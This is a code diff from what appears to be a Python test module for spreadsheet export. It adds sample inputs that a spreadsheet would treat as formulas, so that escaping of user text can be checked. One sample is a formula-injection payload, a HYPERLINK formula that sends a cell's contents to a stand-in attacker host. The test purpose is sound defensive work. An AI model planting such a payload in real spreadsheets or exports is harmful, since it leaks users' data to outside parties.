@@ -7,6 +7,17 @@ from xml.etree import ElementTree
 
 import openpyxl
 
+# Text a person might type, on purpose or by pasting, that a spreadsheet would take for a formula:
+# each lead the issue names (=, +, -, @, tab, carriage return).
+FORMULA_LIKE_TEXTS = [
+    '=HYPERLINK("http://evil.example/?leak="&B2,"click me")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
+
 
 def formulas_in(workbook: Path | bytes) -> list[str]:
     """Every `<f>` element of every sheet, as "member: formula"; read from the XML, as Excel would read it."""
